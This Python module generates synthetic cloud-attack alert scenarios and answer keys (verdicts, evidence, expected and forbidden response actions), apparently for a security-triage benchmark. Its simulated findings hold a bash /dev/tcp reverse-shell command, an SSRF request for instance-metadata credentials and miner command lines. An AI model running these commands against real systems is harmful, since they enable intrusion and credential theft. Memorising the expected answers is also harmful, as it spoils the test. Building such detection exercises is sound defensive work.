"""cloud_abuse stories: cryptomining, stolen keys and instance credentials, disabled logging,
Okta admin escalation.
"""

from __future__ import annotations

from typing import Any

from devtools.builtin_suite.scenes import BUCKETS
from devtools.builtin_suite.story import WORKDAYS, Story, clock, forbid_defaults, template
from devtools.northwind import (
    ADMINS,
    ASSETS,
    DOMAIN,
    EC2_PUBLIC_IPS,
    HOSTILE_COUNTRIES,
    HQ_EGRESS,
    PEOPLE,
    PUBLIC_INSTANCES,
    SIGNED,
    WORKER_INSTANCES,
    Person,
    asset,
    country_name,
    ip_of,
)
from devtools.vendor_records.common import Record, digest, number_of
from devtools.vendor_records.guardduty import (
    PORT_PROBE,
    gd_access_key,
    gd_api,
    gd_connection,
    gd_dns,
    gd_instance,
    gd_probe,
    guardduty_finding,
)
from devtools.vendor_records.microsoft import se_account, se_ip, sentinel_alert
from devtools.vendor_records.okta import okta_event, okta_session, okta_target
from devtools.vendor_records.wazuh import wazuh_alert

# ============================================================================================
# cloud_abuse
# ============================================================================================


def runtime_process(name: str, path: str, sha256: str, command: str, user: str = "root") -> Record:
    """GuardDuty Runtime Monitoring: the process a runtime finding is about."""
    return {
        "Process": {
            "Name": name,
            "ExecutablePath": path,
            "ExecutableSha256": sha256,
            "CommandLineExample": command,
            "User": user,
            "Pid": number_of("gd-pid", path, low=1000, high=60000),
        }
    }


_POOLS = (
    "xmr-eu1.nanopool-pro",
    "pool.hashvault-xmr",
    "gulf.moneroocean-pool",
    "pool.supportxmr-eu",
)


@template("cloud_abuse", 4)
def ec2_cryptomining(s: Story, i: int) -> None:
    instance = (*WORKER_INSTANCES, *PUBLIC_INSTANCES)[i]
    pool = f"{_POOLS[i]}.example"
    miner = s.sha256()
    s.start(s.pick([s.night_time(), s.workday_time(), s.evening_time()]))
    s.title = f"Monero mining on EC2 instance {instance}"
    s.description = (
        f"An attacker who got into {instance} ({ASSETS[instance].role}) through an exposed "
        f"container API runs a miner that resolves and connects to {pool}."
    )
    s.alert(
        "guardduty-bitcoin-dns",
        s.at(0),
        guardduty_finding,
        finding_type="CryptoCurrency:EC2/BitcoinTool.B!DNS",
        severity=8.0,
        title=f"EC2 instance {instance} is querying a domain name that is associated with "
        "Bitcoin-related activity.",
        description=f"EC2 instance {instance} is querying "
        f"{pool}, a domain associated with cryptocurrency mining.",
        resource=gd_instance(instance),
        action=gd_dns(pool),
        count=s.rng.randint(40, 400),
        role="ACTOR",
    )
    if i % 2 == 0:
        s.alert(
            "guardduty-pool-reputation",
            s.at(3),
            guardduty_finding,
            finding_type="Impact:EC2/BitcoinDomainRequest.Reputation",
            severity=8.0,
            title=f"EC2 instance {instance} is querying a domain name associated with "
            "cryptocurrency operations.",
            description=f"{pool} has a low reputation and is used for cryptocurrency mining.",
            resource=gd_instance(instance),
            action=gd_dns(pool),
            role="ACTOR",
        )
    else:
        s.alert(
            "guardduty-runtime-miner",
            s.at(2),
            guardduty_finding,
            finding_type="CryptoCurrency:Runtime/BitcoinTool.B",
            severity=8.0,
            title=f"A process on {instance} is mining cryptocurrency.",
            description="A process with the behaviour of a miner connected to a mining pool.",
            resource=gd_instance(instance),
            action=gd_dns(pool),
            role="ACTOR",
            runtime=runtime_process(
                "kdevtmpfsi", "/tmp/kdevtmpfsi", miner, f"/tmp/kdevtmpfsi -o {pool}:443 --tls"
            ),
        )
    s.case(
        "cryptomining",
        s.refs(),
        "true_positive",
        techniques=["T1496"],
        evidence=["guardduty-bitcoin-dns"],
        actions=[("isolate_host", instance), ("block_domain", pool)],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", EC2_PUBLIC_IPS[instance]))


@template("cloud_abuse", 4)
def iam_key_malicious_caller(s: Story, i: int) -> None:
    user = (
        PEOPLE["wei.zhang"],
        PEOPLE["xavier.lopez"],
        PEOPLE["yara.ali"],
        PEOPLE["xavier.lopez"],
    )[i]
    key = "AKIA" + s.hex(16).upper()
    attacker = s.ext_ip()
    country = s.pick(HOSTILE_COUNTRIES)
    if i in (0, 2):
        s.intel(
            attacker,
            "ip",
            "Scanner harvesting cloud keys from public repositories",
            70,
            source="community-feed",
        )
    s.start(s.pick([s.night_time(), s.evening_time()]))
    s.title = f"{user.user}'s leaked AWS key used from {attacker} to map the account"
    s.description = (
        f"{user.name} committed an access key to a public repository. Hours later it is used "
        f"from {attacker} ({country_name(country)}) to enumerate IAM"
        + (" and to create a second access key for persistence." if i in (1, 3) else ".")
    )
    s.alert(
        "guardduty-malicious-caller",
        s.at(0),
        guardduty_finding,
        finding_type="Recon:IAMUser/MaliciousIPCaller",
        severity=5.0,
        title="Reconnaissance API GetCallerIdentity was invoked from a known malicious IP address.",
        description=f"API GetCallerIdentity was invoked by {user.user} from "
        f"{attacker}, an address on a threat list.",
        resource=gd_access_key(user.user, key_id=key),
        action=gd_api(
            "GetCallerIdentity",
            "sts.amazonaws.com",
            attacker,
            country,
            ua="Boto3/1.35.10 Python/3.12.3",
        ),
    )
    s.alert(
        "guardduty-iam-discovery",
        s.at(4),
        guardduty_finding,
        finding_type="Discovery:IAMUser/AnomalousBehavior",
        severity=2.0,
        title=f"User {user.user} is invoking APIs commonly used in discovery tactics.",
        description="GetAccountAuthorizationDetails and ListUsers were invoked in an anomalous "
        "way.",
        resource=gd_access_key(user.user, key_id=key),
        action=gd_api(
            "GetAccountAuthorizationDetails",
            "iam.amazonaws.com",
            attacker,
            country,
            ua="Boto3/1.35.10 Python/3.12.3",
        ),
        count=s.rng.randint(20, 90),
    )
    techniques = ["T1078.004", "T1087.004"]
    if i in (1, 3):
        s.alert(
            "guardduty-persistence",
            s.at(9),
            guardduty_finding,
            finding_type="Persistence:IAMUser/AnomalousBehavior",
            severity=5.0,
            title=f"User {user.user} is invoking APIs commonly used in persistence tactics.",
            description="CreateAccessKey was invoked in an anomalous way.",
            resource=gd_access_key(user.user, key_id=key),
            action=gd_api(
                "CreateAccessKey",
                "iam.amazonaws.com",
                attacker,
                country,
                ua="Boto3/1.35.10 Python/3.12.3",
            ),
        )
        techniques.append("T1098.001")
    s.case(
        "leaked-key",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["guardduty-malicious-caller", *s.refs("guardduty-persistence")],
        actions=[("revoke_sessions", user.user), ("block_ip", attacker)],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", HQ_EGRESS))


@template("cloud_abuse", 4)
def instance_credential_exfiltration(s: Story, i: int) -> None:
    instance = PUBLIC_INSTANCES[i % 2]
    web = asset(instance)
    attacker = s.ext_ip()
    country = s.pick(HOSTILE_COUNTRIES)
    role = f"northwind-{web.role.replace('_', '-')}-role"
    key = "ASIA" + s.hex(16).upper()
    s.start(s.pick([s.night_time(), s.workday_time(), s.evening_time()]))
    s.title = f"SSRF on {instance} leaks its role credentials, used from {attacker}"
    s.description = (
        f"{attacker} abuses a URL-fetch feature of the application on {instance} to read the "
        f"instance metadata service and steal the credentials of {role}, then uses them from "
        f"outside AWS."
    )
    path = (
        f"/api/preview?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/{role}"
    )
    when = s.at(0)
    s.alert(
        "wazuh-ssrf",
        when,
        wazuh_alert,
        web,
        rule_id="100810",
        level=10,
        description="Request for the instance metadata service through an application "
        "parameter (SSRF)",
        groups=["web", "accesslog", "attack", "ssrf"],
        techniques=["T1190", "T1552.005"],
        data={"protocol": "GET", "srcip": attacker, "id": "200", "url": path},
        full_log=f'{attacker} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "GET {path} HTTP/1.1" 200 '
        '1418 "-" "Mozilla/5.0"',
        location="/var/log/nginx/access.log",
        decoder={"name": "web-accesslog"},
    )
    s.alert(
        "guardduty-credential-exfiltration",
        s.at(12),
        guardduty_finding,
        finding_type="UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
        severity=8.0,
        title=f"Credentials for instance role {role} used from external IP address.",
        description=f"Credentials created exclusively for {instance} are being used from "
        f"{attacker}.",
        resource=gd_access_key(role, key_id=key, user_type="AssumedRole"),
        action=gd_api("ListBuckets", "s3.amazonaws.com", attacker, country),
    )
    if i in (0, 2):
        s.alert(
            "guardduty-discovery",
            s.at(15),
            guardduty_finding,
            finding_type="Discovery:IAMUser/AnomalousBehavior",
            severity=2.0,
            title=f"User {role} is invoking APIs commonly used in discovery tactics.",
            description="DescribeInstances was invoked in an anomalous way.",
            resource=gd_access_key(role, key_id=key, user_type="AssumedRole"),
            action=gd_api("DescribeInstances", "ec2.amazonaws.com", attacker, country),
        )
    s.case(
        "instance-credential-theft",
        s.refs(),
        "true_positive",
        techniques=["T1190", "T1552.005", "T1078.004"],
        evidence=["wazuh-ssrf", "guardduty-credential-exfiltration"],
        actions=[("isolate_host", instance), ("block_ip", attacker)],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", EC2_PUBLIC_IPS[instance]), ("block_ip", "169.254.169.254"))


@template("cloud_abuse", 3)
def cloudtrail_disabled(s: Story, i: int) -> None:
    admin = ADMINS[i]
    key = "AKIA" + s.hex(16).upper()
    attacker = s.ext_ip()
    country = s.pick(HOSTILE_COUNTRIES)
    bucket = s.pick(BUCKETS)
    s.start(s.night_time())
    s.title = f"{admin.user}'s AWS key stops CloudTrail from {country} at night"
    s.description = (
        f"At {s.t0:%H:%M} on a {s.t0:%A}, {admin.name}'s administrator key is used from "
        f"{attacker} ({country_name(country)}) to stop CloudTrail logging"
        + (f" and to open {bucket} to the public." if i < 2 else f" and to read {bucket}.")
    )
    s.alert(
        "guardduty-trail-stopped",
        s.at(0),
        guardduty_finding,
        finding_type="Stealth:IAMUser/CloudTrailLoggingDisabled",
        severity=2.0,
        title="AWS CloudTrail trail northwind-org-trail was disabled.",
        description=f"StopLogging was called by {admin.user}.",
        resource=gd_access_key(admin.user, key_id=key),
        action=gd_api("StopLogging", "cloudtrail.amazonaws.com", attacker, country),
    )
    techniques = ["T1078.004", "T1562.008"]
    if i < 2:
        s.alert(
            "guardduty-public-bucket",
            s.at(6),
            guardduty_finding,
            finding_type="Policy:S3/BucketBlockPublicAccessDisabled",
            severity=2.0,
            title=f"Amazon S3 Block Public Access was disabled for S3 bucket {bucket}.",
            description=f"DeletePublicAccessBlock was called by {admin.user}.",
            resource=gd_access_key(admin.user, key_id=key, buckets=[bucket]),
            action=gd_api("DeletePublicAccessBlock", "s3.amazonaws.com", attacker, country),
        )
        techniques.append("T1098")
    else:
        s.alert(
            "guardduty-bucket-read",
            s.at(8),
            guardduty_finding,
            finding_type="Exfiltration:S3/AnomalousBehavior",
            severity=8.0,
            title=f"Anomalous S3 data read by user {admin.user}.",
            description=f"{s.rng.randint(200, 800)} objects were read from {bucket}.",
            resource=gd_access_key(admin.user, key_id=key, buckets=[bucket]),
            action=gd_api("GetObject", "s3.amazonaws.com", attacker, country),
            count=s.rng.randint(200, 800),
        )
        techniques.append("T1530")
    s.case(
        "cloud-defense-evasion",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["guardduty-trail-stopped"],
        actions=[
            ("revoke_sessions", admin.user),
            ("reset_password", admin.user),
            ("block_ip", attacker),
        ],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", HQ_EGRESS))


@template("cloud_abuse", 4)
def okta_admin_escalation(s: Story, i: int) -> None:
    actor = (PEOPLE["sara.lindqvist"], PEOPLE["mia.costa"])[i % 2]
    attacker = s.ext_ip()
    country = s.pick(HOSTILE_COUNTRIES)
    rogue = s.pick(("svc-sync2", "okta-integration", "it.support2", "sso-bridge"))
    s.start(s.pick([s.evening_time(), s.night_time()]))
    s.title = f"{actor.name}'s Okta account grants itself Super Administrator from {country}"
    s.description = (
        f"{actor.name}'s Okta session is taken over from {attacker} "
        f"({country_name(country)}). The attacker grants the account Super Administrator, "
        "removes the MFA requirement from a sign-on policy rule and "
        + (
            "creates the account '" + rogue + "'."
            if i % 2
            else "resets the factors of the break-glass account."
        )
        + " The break-glass account is a victim here, not a suspect."
    )
    okta: dict[str, Any] = {"ip": attacker, "country": country}
    s.alert(
        "okta-session",
        s.at(0),
        okta_session,
        person=actor,
        risk="HIGH",
        threat_suspected=False,
        **okta,
    )
    s.alert(
        "okta-privilege-grant",
        s.at(4),
        okta_event,
        person=actor,
        event_type="user.account.privilege.grant",
        message="Grant user privilege",
        targets=[okta_target(actor)],
        request_uri="/api/v1/users/roles",
        **okta,
    )
    s.alert(
        "okta-policy-update",
        s.at(7),
        okta_event,
        person=actor,
        event_type="policy.rule.update",
        message="Update policy rule",
        targets=[
            {
                "id": "0pr" + s.hex(17),
                "type": "PolicyRule",
                "alternateId": "unknown",
                "displayName": "Require MFA outside the office",
                "detailEntry": None,
            }
        ],
        request_uri="/api/v1/policies/rules",
        **okta,
    )
    techniques = ["T1078.004", "T1098.003", "T1556.006"]
    if i % 2:
        rogue_person = Person(rogue, rogue, "IT", "Unknown", "standard", (), None, None)
        s.alert(
            "okta-user-created",
            s.at(10),
            okta_event,
            person=actor,
            event_type="user.lifecycle.create",
            message="Create okta user",
            targets=[okta_target(rogue_person)],
            request_uri="/api/v1/users",
            **okta,
        )
        techniques.append("T1136.003")
    else:
        s.alert(
            "okta-breakglass-reset",
            s.at(10),
            okta_event,
            person=actor,
            event_type="user.mfa.factor.reset_all",
            message="Reset all factors for user",
            targets=[
                {
                    "id": "00u" + digest("okta", "breakglass-admin", size=17),
                    "type": "User",
                    "alternateId": f"breakglass-admin@{DOMAIN}",
                    "displayName": "Break-glass administrator",
                    "detailEntry": None,
                }
            ],
            request_uri="/api/v1/users/lifecycle/reset_factors",
            **okta,
        )
    s.alert(
        "sentinel-privilege-grant",
        s.at(14),
        sentinel_alert,
        name="Okta: administrator privilege granted outside the change process",
        level=4,
        description="An Okta admin role was granted with no matching change ticket, "
        "from an address not seen for the account.",
        tactics=["Persistence", "PrivilegeEscalation"],
        techniques=["T1098.003"],
        entities=[se_account(actor.user), se_ip(attacker, country)],
        extended={"Data Sources": '["Okta_CL"]'},
    )
    s.case(
        "idp-takeover",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["okta-privilege-grant", "okta-policy-update", "sentinel-privilege-grant"],
        actions=[
            ("revoke_sessions", actor.user),
            ("reset_password", actor.user),
            ("block_ip", attacker),
        ],
    )
    forbid_defaults(s)
    s.forbid(("reset_password", "breakglass-admin"), ("revoke_sessions", "breakglass-admin"))


@template("cloud_abuse", 3)
def ec2_ssh_then_c2(s: Story, i: int) -> None:
    instance = PUBLIC_INSTANCES[i % 2]
    brute = s.ext_ip()
    brute_country = s.pick(HOSTILE_COUNTRIES)
    c2_ip, c2_domain = s.ext_ip(), s.domain()
    s.start(s.pick([s.night_time(), s.evening_time()]))
    s.title = f"SSH brute force on {instance}, then command-and-control traffic"
    s.description = (
        f"{brute} ({country_name(brute_country)}) brute-forces SSH on {instance}; an hour later "
        f"the instance talks to {c2_domain}, a command-and-control server: the guessing worked."
    )
    s.alert(
        "guardduty-ssh-brute-force",
        s.at(0),
        guardduty_finding,
        finding_type="UnauthorizedAccess:EC2/SSHBruteForce",
        severity=2.0,
        title=f"{brute} is performing SSH brute force attacks against {instance}.",
        description=f"{brute} is performing SSH brute force attacks against {instance}. "
        "Brute force attacks are used to gain unauthorized access to your instance.",
        resource=gd_instance(instance),
        action=gd_connection(
            "INBOUND",
            brute,
            brute_country,
            remote_port=s.rng.randint(40000, 60000),
            local_port=22,
        ),
        count=s.rng.randint(200, 2000),
        first_seen=s.at(-90),
    )
    if i == 2:
        s.alert(
            "guardduty-c2",
            s.at(55),
            guardduty_finding,
            finding_type="Backdoor:EC2/C&CActivity.B",
            severity=8.0,
            title=f"EC2 instance {instance} is communicating with a command and control server.",
            description=f"{instance} is connecting to {c2_ip}, a known command and control server.",
            resource=gd_instance(instance),
            action=gd_connection(
                "OUTBOUND", c2_ip, "NL", remote_port=443, local_port=s.rng.randint(40000, 60000)
            ),
            role="ACTOR",
        )
    else:
        s.alert(
            "guardduty-c2",
            s.at(55),
            guardduty_finding,
            finding_type="Backdoor:EC2/C&CActivity.B!DNS",
            severity=8.0,
            title=f"EC2 instance {instance} is querying a domain name associated with a known "
            "command and control server.",
            description=f"{instance} is querying {c2_domain}.",
            resource=gd_instance(instance),
            action=gd_dns(c2_domain),
            role="ACTOR",
        )
    s.case(
        "ssh-then-c2",
        s.refs(),
        "true_positive",
        techniques=["T1110.001", "T1071.004" if i != 2 else "T1071.001"],
        evidence=["guardduty-ssh-brute-force", "guardduty-c2"],
        actions=[
            ("isolate_host", instance),
            ("block_ip", brute),
            ("block_domain", c2_domain) if i != 2 else ("block_ip", c2_ip),
        ],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", EC2_PUBLIC_IPS[instance]))


@template("cloud_abuse", 3)
def dev_account_cryptomining(s: Story, i: int) -> None:
    instance = "i-0d4e5f60718293a41"
    pool_ip = s.ext_ip()
    miner = s.sha256()
    s.difficulty = "hard"
    s.start(s.pick([s.workday_time(), s.night_time(), s.evening_time()]))
    s.title = f"Mining on the development build agent {instance}"
    s.description = (
        f"{instance}, a low-criticality development build agent that routinely runs untrusted "
        f"code, starts mining to {pool_ip} after a poisoned dependency runs in a build. The "
        "environment is 'development', but the instance role can read build secrets."
    )
    s.alert(
        "guardduty-mining",
        s.at(0),
        guardduty_finding,
        finding_type="CryptoCurrency:EC2/BitcoinTool.B",
        severity=5.0,
        title=f"EC2 instance {instance} is communicating with a Bitcoin mining pool.",
        description=f"{instance} connects to {pool_ip}:3333.",
        resource=gd_instance(instance),
        action=gd_connection(
            "OUTBOUND", pool_ip, "NL", remote_port=3333, local_port=s.rng.randint(40000, 60000)
        ),
        role="ACTOR",
        count=s.rng.randint(50, 500),
    )
    techniques = ["T1496"]
    if i == 1:
        s.alert(
            "guardduty-reverse-shell",
            s.at(-20),
            guardduty_finding,
            finding_type="Execution:Runtime/ReverseShell",
            severity=8.0,
            title=f"A process on {instance} opened a reverse shell.",
            description="A process redirected a shell to a remote address.",
            resource=gd_instance(instance),
            action={},
            role="ACTOR",
            runtime=runtime_process(
                "bash",
                "/usr/bin/bash",
                SIGNED["curl"],
                f"bash -i >& /dev/tcp/{pool_ip}/4444 0>&1",
                "builder",
            ),
        )
        techniques.append("T1059.004")
    if i == 2:
        s.alert(
            "guardduty-new-binary",
            s.at(-3),
            guardduty_finding,
            finding_type="Execution:Runtime/NewBinaryExecuted",
            severity=2.0,
            title=f"A newly created binary was executed on {instance}.",
            description="A binary written by a build step was executed.",
            resource=gd_instance(instance),
            action={},
            role="ACTOR",
            runtime=runtime_process(
                "node-gyp-build",
                "/tmp/npm-2231/node-gyp-build",
                miner,
                "node-gyp-build --threads 8",
                "builder",
            ),
        )
        techniques.append("T1195.002")
    s.case(
        "dev-cryptomining",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["guardduty-mining"],
        actions=[("isolate_host", instance), ("block_ip", pool_ip)],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", EC2_PUBLIC_IPS[instance]), ("isolate_host", "SRV-BUILD-01"))


@template("cloud_abuse", 3)
def c2_among_port_probes(s: Story, i: int) -> None:
    instance = PUBLIC_INSTANCES[i % 2]
    c2 = s.ext_ip()
    s.intel(c2, "ip", "Command-and-control server of a Linux botnet", 85)
    s.difficulty = "hard"
    day = s.pick(WORKDAYS[5:])
    s.start(clock(day, s.rng.randint(1, 20), s.rng.randint(0, 59)))
    s.title = f"C2 traffic from {instance} among three days of internet port probes"
    s.description = (
        f"{instance} is probed from the internet every few hours, as every public host is. "
        f"Among those findings, one shows it connecting out to {c2}, a botnet controller."
    )
    probes: list[str] = []
    minute = -3 * 24 * 60
    while minute < -30:
        when = s.at(minute)
        prober = s.ext_ip()
        port, name = s.pick(
            ((22, "SSH"), (3389, "RDP"), (23, "Telnet"), (5900, "VNC"), (6379, "Redis"))
        )
        probes.append(
            s.alert(
                f"guardduty-probe-{len(probes) + 1:02d}",
                when,
                guardduty_finding,
                finding_type="Recon:EC2/PortProbeUnprotectedPort",
                severity=2.0,
                title=f"Unprotected port on EC2 instance {instance} is being probed.",
                description=PORT_PROBE,
                resource=gd_instance(instance),
                action=gd_probe(ip_of(instance), [(port, name, prober, s.pick(HOSTILE_COUNTRIES))]),
                count=s.rng.randint(2, 40),
            )
        )
        minute += s.rng.randint(3 * 60, 7 * 60)
    s.alert(
        "guardduty-c2",
        s.at(0),
        guardduty_finding,
        finding_type="Backdoor:EC2/C&CActivity.B",
        severity=8.0,
        title=f"EC2 instance {instance} is communicating with a command and control server.",
        description=f"{instance} is connecting to {c2}.",
        resource=gd_instance(instance),
        action=gd_connection(
            "OUTBOUND", c2, "MD", remote_port=8443, local_port=s.rng.randint(40000, 60000)
        ),
        role="ACTOR",
    )
    s.case(
        "botnet-c2",
        ["guardduty-c2"],
        "true_positive",
        techniques=["T1071.001"],
        evidence=["guardduty-c2"],
        actions=[("isolate_host", instance), ("block_ip", c2)],
    )
    s.case("port-probes", probes, "benign_positive", evidence=probes[:1])
    forbid_defaults(s)
    s.forbid(("block_ip", EC2_PUBLIC_IPS[instance]))
